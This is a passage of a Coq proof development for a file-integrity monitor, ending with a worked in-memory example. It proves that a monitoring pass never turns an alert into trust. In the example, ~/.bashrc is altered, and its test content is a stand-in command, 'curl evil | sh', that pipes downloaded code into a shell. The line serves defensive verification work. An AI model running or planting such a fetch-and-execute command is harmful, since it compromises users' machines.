      by (rewrite Hp; apply list_elem_of_fmap; by exists h).
    rewrite He', (JsMap.get_of_list_in entry_key next e) in E; done.
Qed.

(** The state after the steps that may save: the view before, or an advanced one. *)
Definition settled (v : View) (report : ScanReport) (v' : View) : Prop :=
  ∃ l, v' = with_trusted v l ∧ advanced v report l.
Definition moved (v : View) (v' : View) : Prop :=
  v' = v ∨ ∃ report, scan deps (seen_changes v) = Ok report ∧ settled v report v'.
Definition moves {A} (v : View) (m : Mon A) (Q : A → View → Prop) : Prop :=
  ∀ s, at_ v s → moved v (view (m s).1.2) ∧ ∀ a, (m s).2 = Ok a → Q a (view (m s).1.2).

Lemma moves_seq {A B} v (m : Mon A) (f : A → Mon B) P Q :
  yields (at_ v) m P → (∀ a, P a → moves v (f a) Q) → moves v (mseq m f) Q.
Proof.
  intros Hm Hf s Hs. destruct (Hm s Hs) as [HI HP]. unfold mseq.
  destruct (m s) as [s' [a|e]]; cbn [fst snd] in *; [by apply Hf; [apply HP|]|].
  split; [by left|done].
Qed.

Lemma moves_mono {A} v (m : Mon A) (P Q : A → View → Prop) :
  moves v m P → (∀ a v', P a v' → Q a v') → moves v m Q.
Proof. intros Hm H s Hs. destruct (Hm s Hs). split; eauto. Qed.

(** The tail of a pass: the save, then steps that keep the view. *)
Lemma moves_save {A} v report next (m : Mon A) (Q : A → Prop) :
  scan deps (seen_changes v) = Ok report →
  advanced v report next →
  (sameBaseline (trusted v) next = true → advanced v report (trusted v)) →
  (∀ v', yields (at_ v') m Q) →
  moves v (let* _ := if sameBaseline (trusted v) next then mok tt else in_world (save_baseline deps next) in m)
    (λ a v', Q a ∧ settled v report v').
Proof.
  intros Hscan Hj Hsame Hm s Hs. unfold mseq. destruct (sameBaseline (trusted v) next).
  - destruct (Hm v s Hs) as [H1 H2]. unfold mok, at_ in *. split; [by left|].
    intros a Ha. split; [by apply H2|]. rewrite H1. exists (trusted v). split; [by destruct v|auto].
  - unfold in_world. pose proof (save_law next s.2) as Hl.
    destruct (save_baseline deps next s.2) as [w' [u|e]]; cbn [fst snd] in *.
    + destruct (Hm (with_trusted v next) (s.1, w')) as [H1 H2]; [by unfold at_ in *; rewrite <-Hs|].
      assert (settled v report (view (m (s.1, w')).1.2)) as Hset by (exists next; done).
      split; [right; by exists report|]. intros a Ha. split; [by apply H2|done].
    + split; [left; unfold at_ in *; by rewrite <-Hs|done].
Qed.

Section resolved.
Context (v : View) (report : ScanReport) (incidents : list (string * PersistenceIncident)) (t : Z).
Let p := resolve (groupBySubject (ScanReport.findings report)) (JsMap.of_list dkey (known v)) incidents
           (trusted v) (present v) t (seen_changes v).
Let next := sort_entries localeLeb (JsMap.values (nextBaseline p)).

Lemma next_advanced : advanced v report next.
Proof.
  intros k. unfold entry_at, next, p. rewrite saved_get. split.
  - intros c Hc Hk Ht. by rewrite (resolve_advances _ _ _ _ _ _ _ c k Hc Hk Ht).
  - intros Hn. destruct (resolve_conservative (known v) (ScanReport.findings report) incidents
      (trusted v) (present v) t (seen_changes v) k) as [?|(c & Hc & Hk & Ht & _)]; [done|].
    by destruct (Hn c Hc Hk).
Qed.

Lemma same_advanced : sameBaseline (trusted v) next = true → advanced v report (trusted v).
Proof.
  intros Hs k. split; [|done]. intros c Hc Hk Ht.
  rewrite (sameBaseline_entries _ next); [|apply saved_nodup|done].
  by apply (proj1 (next_advanced k) c).
Qed.

Lemma none_pending :
  length (sort_incidents localeLeb (nextIncidents p)) = 0
  ↔ ∀ c, c ∈ seen_changes v → trusted_change (known v) (ScanReport.findings report) c.
Proof.
  pose proof (resolve_incidents (known v) (ScanReport.findings report) incidents
                (trusted v) (present v) t (seen_changes v)) as Hi. fold p in Hi.
  assert (length (sort_incidents localeLeb (nextIncidents p)) = length (nextIncidents p)) as ->
    by apply Permutation_length, sort_by_perm.
  rewrite length_zero_iff_nil. split.
  - intros Hnil c Hc. destruct (every_trusted_dec (known v) (ScanReport.findings report) c) as [?|Hn]; [done|].
    destruct Hi as [_ Hi]. by destruct Hi; [exists c|].
  - intros Hall. destruct (nextIncidents p) as [|i l]; [done|].
    destruct Hi as [Hi _]. destruct Hi as (c & Hc & Hn); [done|]. by destruct Hn; apply Hall.
Qed.
End resolved.

Lemma execute_moves v :
  moves v (execute localeLeb deps) (λ out v', ∃ report, scan deps (seen_changes v) = Ok report
    ∧ settled v report v'
    ∧ changes_ out = length (seen_changes v)
    ∧ exitCode out = (if (0 <? pending_ out)%nat then 2 else 0)%Z
    ∧ (pending_ out = 0 ↔ ∀ c, c ∈ seen_changes v →
         trusted_change (known v) (ScanReport.findings report) c)).
Proof.
  unfold execute.
  eapply moves_seq; [apply lift_keeps, clock_keeps|]. intros t _.
  eapply (moves_seq _ _ _ (λ l, l = trusted v)); [apply lift_returns; intros w <-; apply load_law|]. intros ? ->.
  eapply (moves_seq _ _ _ (λ l, l = present v)); [apply lift_returns; intros w <-; apply collect_law|]. intros ? ->.
  eapply (moves_seq _ _ _ (λ l, l = known v)); [apply lift_returns; intros w <-; apply decisions_law|]. intros ? ->.
  eapply moves_seq; [apply lift_keeps, load_pending_keeps|]. intros incidents _.
  eapply moves_seq; [apply lift_keeps, pause_keeps|]. intros pause _.
  eapply moves_seq; [apply buildChanges_yields|]. intros ? ->.
  eapply (moves_seq _ _ _ (λ report, scan deps (seen_changes v) = Ok report)); [by apply yields_lift|].
  intros report Hscan. cbv zeta.
  eapply (moves_seq _ _ _ (λ _, True)).
  { case_if; [by apply yields_ok|apply lift_keeps, save_pending_keeps]. }
  intros _ _.
  eapply moves_mono; [eapply (moves_save v report _ _ (λ out, changes_ out = length (seen_changes v)
    ∧ exitCode out = (if (0 <? pending_ out)%nat then 2 else 0)%Z
    ∧ (pending_ out = 0 ↔ ∀ c, c ∈ seen_changes v →
         trusted_change (known v) (ScanReport.findings report) c)))|].
  - done.
  - apply next_advanced.
  - apply same_advanced.
  - intros v'. eapply (yields_seq _ _ _ (λ _, True)).
    { destruct pause; try by apply yields_ok. apply log_keeps. }
    intros _ _. eapply (yields_seq _ _ _ (λ _, True)).
    { apply (yields_fold _ _ _ (λ _ _, True)); [|done]. intros dn f acc _ _. apply report_one_keeps. }
    intros sent _. apply yields_ok. split; [done|]. split; [done|]. apply none_pending.
  - intros out v' [Hq Hs]. by exists report.
Qed.
End execute.

(** C8. A pass of the monitor never turns an alert into trust. Whatever fails on the way,
    the baseline ends as it was or advanced from it: for every path, the present entry (or
    its absence) becomes trusted, up to its date, where a change is free of high findings
    or each of them is allowed by the last decision under its key, about the same subject
    and rule and not for a deletion; every other entry is the one trusted before. A pass
    that returns has advanced the baseline, and reports incidents and the exit code 2
    exactly when some change stays untrusted. *)
Theorem trust_is_conservative (localeLeb : string → string → bool) {W} (deps : Dependencies W)
    `{!MonitorLaws deps} (budget : NotificationBudget) (w : W) :
  let v := view w in
  let r := execute localeLeb deps (budget, w) in
  let v' := view r.1.2 in
  (v' = v ∨ ∃ report, scan deps (seen_changes localeLeb deps v) = Ok report
              ∧ settled localeLeb deps v report v')
  ∧ ∀ out, r.2 = Ok out → ∃ report, scan deps (seen_changes localeLeb deps v) = Ok report
      ∧ settled localeLeb deps v report v'
      ∧ changes_ out = length (seen_changes localeLeb deps v)
      ∧ exitCode out = (if (0 <? pending_ out)%nat then 2 else 0)%Z
      ∧ (pending_ out = 0 ↔ ∀ c, c ∈ seen_changes localeLeb deps v →
           trusted_change (known v) (ScanReport.findings report) c).
Proof. by apply (execute_moves localeLeb deps (view w) (budget, w)). Qed.
End MonitorPersistence.

(** ** A monitor over a world in memory *)

Module MemoryMonitor.
Import MonitorPersistence.

Definition rc : AbsolutePath := AbsolutePath.posix_path ["home"; "u"; ".bashrc"].
Definition context : PathContext :=
  mkContext (AbsolutePath.posix_path ["home"; "u"]) (AbsolutePath.posix_path ["home"; "u"; "w"]) Platform.Linux.
Definition alert : Finding :=
  Finding.mkFinding (Finding.ruleId ScanEngine.demo_finding) Severity.CRITICAL Disposition.OBSERVE
    "A shell start-up file changed" "" "" "~/.bashrc" (Some (ContentHash.mkHash "b")) None.

Definition deps : Dependencies View :=
  mkDependencies View (λ p w, (w, Ok (text_of w p))) (λ w, (w, Ok (trusted w)))
    (λ l w, (with_trusted w l, Ok tt))
    (mkDecisionStore View (λ _, mok None) (λ _, mok tt) (λ _, mok tt) (λ w, (w, Ok (known w))))
    (mok []) (λ _, mok tt) (mok pause_inactive) (λ _ w, (w, Ok (present w)))
    (λ _, Ok (ScanReport.of_ [alert])) (λ _, mok tt) (mkAuditLog View (λ _, mok tt))
    (mkClock View (mok 7%Z)) context false NotificationPolicy.STANDARD.

#[global] Instance laws : MonitorLaws deps.
Proof.
  refine {| view := λ w : View, w |}; try done; intros; split; try done; cbn; congruence.
Defined.

(** The start-up file has another content than the trusted one; nothing is decided, or the
    new content is allowed for good. *)
Definition world (decided : list Decision) : View :=
  mkView [mkBaselineEntry rc (ContentHash.mkHash "a") 0] decided
    [mkBaselineEntry rc (ContentHash.mkHash "b") 7] (λ _, Some "curl evil | sh").
Definition allowed : Decision :=
  mkDecision "sha256:b" allow "~/.bashrc" [RuleId.value (Finding.ruleId alert)] 0.

Definition pass (decided : list Decision) : (NotificationBudget * View) * result MonitorPersistenceOutcome :=
  execute String.leb deps (NotificationBudget.fresh, world decided).

Example passes :
  (trusted (pass []).1.2 = trusted (world []) ∧ (pass []).2 = Ok (mkOutcome 2 1 1 1 1))
  ∧ (trusted (pass [allowed]).1.2 = present (world []) ∧ (pass [allowed]).2 = Ok (mkOutcome 0 1 1 0 0)).
Proof. vm_compute. done. Qed.

Lemma trust_is_conservative_witness :
  exitCode (mkOutcome 2 1 1 1 1) = 2%Z
  ∧ ∃ report, settled String.leb deps (world []) report (pass []).1.2.
Proof.
  destruct (trust_is_conservative String.leb deps NotificationBudget.fresh (world [])) as [_ H].
  destruct (H (mkOutcome 2 1 1 1 1)) as (report & _ & Hs & _ & Hexit & _).
  - vm_compute. reflexivity.
  - split; [exact Hexit|]. exists report. exact Hs.
Defined.
End MemoryMonitor.
